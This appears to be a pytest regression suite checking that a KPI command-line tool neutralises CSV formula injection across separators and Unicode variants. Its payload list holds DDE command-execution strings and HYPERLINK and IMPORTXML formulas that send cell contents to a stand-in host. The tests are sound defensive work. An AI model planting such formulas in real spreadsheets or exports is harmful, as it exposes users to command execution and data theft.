"""In no CSV does a spreadsheet find a formula, and every number in it stays a number."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest
import yaml

from tests.analysis.ran import ran
from tests.support import write_csv

Capture = pytest.CaptureFixture[str]

CALLS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test?"&A1,"ok")', "SUM(A1:A9)")
PAYLOADS = [
    *(f"{sign}{call}" for sign in "=+-@" for call in CALLS),
    *(f"{sign}1+1" for sign in "＝＋－＠"),
    *(f"{blank}=1+1" for blank in (" ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", "\u200b")),
    "x;=1+1;y",
    "x\t=1+1\ty",
    "x; @SUM(A1)",
    "x\n=1+1\ny",
    'x";=1+1;"',
    'x","=1+1","',
    "x,=1+1,y",
    "'=1+1",
    '"=1+1"',
    "=",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.test?",A1),"//a")',
]
SEPARATORS = ",;\t"
"""What spreadsheets part cells at, by the locale of their user."""


def cells(text: str, separator: str) -> list[str]:
    """The cells that a spreadsheet sees; outside quotes a lone CR ends a line too."""
    lines = io.StringIO(text, newline="")
    return [cell for row in csv.reader(lines, delimiter=separator) for cell in row]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet evaluates a cell: after what it strips, unless it is a number."""
    bare = cell.lstrip(" \t\r\n\u00a0\ufeff\u200b")
    if not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")):
        return False
    try:
        return not math.isfinite(float(bare))
    except ValueError:
        return True


def checked(text: str) -> None:
    """Fail if any kind of spreadsheet finds a formula."""
    for separator in SEPARATORS:
        found = [cell for cell in cells(text, separator) if is_formula(cell)]
        assert found == [], separator


@pytest.fixture
def evil(folder: Path) -> Path:
    """Forty payloads as groups, clients, names and titles."""
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 40
    rows = [(payload, place) for payload in PAYLOADS for place in range(12)]
    with (folder / "survey.csv").open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream, quoting=csv.QUOTE_ALL)
        writer.writerow(["q", "group", "client", "day", "paid"])
        for payload, place in rows:
            writer.writerow([place % 11, payload, f"{payload}{place}", "2025-03-04", 1 + place])
    kpis = {
        f"{payload} nps".replace("\t", " "): {"kpi": "nps", "question": "q", "title": payload}
        for payload in PAYLOADS
    }
    survey = {"path": "survey.csv", "client": "client"}
    content = {
        "version": 1,
        "sources": {
            "survey": survey,
            "payments": {**survey, "date": "day", "amount": "paid", "as_of": "2025-12-31"},
        },
        "segments": {"=by": "survey.group"},
        "kpis": {**kpis, "arpc": {"source": "payments", "clients": "paying"}},
    }
    (folder / "kpicli.yaml").write_text(yaml.safe_dump(content, width=10_000), "utf-8")
    return folder


@pytest.mark.parametrize(
    "call",
    [
        ("score", "--explain"),
        ("segment", "--by", "=by", "--kpi", "=1+1 nps"),
        ("score", "--kpi", "arpc", "--clients", "each.csv"),
    ],
    ids=["titles", "groups", "clients"],
)
def test_no_cell_is_a_formula(call: tuple[str, ...], evil: Path, capsys: Capture) -> None:
    done = ran(capsys, *call, "-q", "-f", "csv")
    assert done.code == 0, done.err
    each = evil / "each.csv"
    text = each.read_bytes().decode() if each.exists() else done.out
    checked(text)
    seen = {cell.replace("'", "") for cell in cells(text, ",")}
    for payload in PAYLOADS:
        bare = payload.replace("'", "").strip()
        assert any(bare in cell for cell in seen), payload


def test_numbers_stay_numbers(evil: Path, capsys: Capture) -> None:
    text = ran(capsys, "segment", "--by", "=by", "--kpi", "=1+1 nps", "-q", "-f", "csv").out
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    values = [float(row["value"]) for row in rows if row["value"]]
    assert len(values) >= 30 and min(values) < 0
    assert {row["n"] for row in rows} >= {"12"}


def test_what_is_no_number_and_no_formula_is_left_as_it_is(folder: Path, capsys: Capture) -> None:
    plain = ["a - b", "5 = five", "me@x.test", "1+1", "it's", "−5", "–", "#1"]
    write_csv(
        folder / "survey.csv",
        {
            "q": [place % 11 for place in range(96)],
            "s": [3] * 96,
            "client": range(96),
            "region": [plain[place % 8] for place in range(96)],
        },
    )
    text = ran(capsys, "segment", "--by", "region", "--kpi", "nps", "-q", "-f", "csv").out
    seen = set(cells(text, ","))
    assert seen >= set(plain)
